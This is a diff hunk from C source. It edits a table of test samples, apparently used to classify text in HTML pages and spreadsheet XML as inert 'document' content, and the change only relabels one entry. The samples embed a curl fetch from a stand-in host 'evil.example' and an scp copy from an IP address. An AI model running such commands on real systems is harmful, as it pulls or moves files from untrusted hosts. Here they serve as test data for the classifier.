@@ -235,7 +235,7 @@ static const struct grammar_sample {
 
 	/* ---- what people read ---- */
 	{ "page", "<!DOCTYPE html><html><body><pre>curl http://evil.example/x</pre></body></html>", "document" },
-	{ "page",
+	{ "office",
 	  "<?xml version=\"1.0\"?>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>Step</t>"
 	  "</si><si><t>what they did\nscp a@203.0.113.9:/x .\nand then\nnothing</t></si></sst>", "document" },
 	{ "markup",
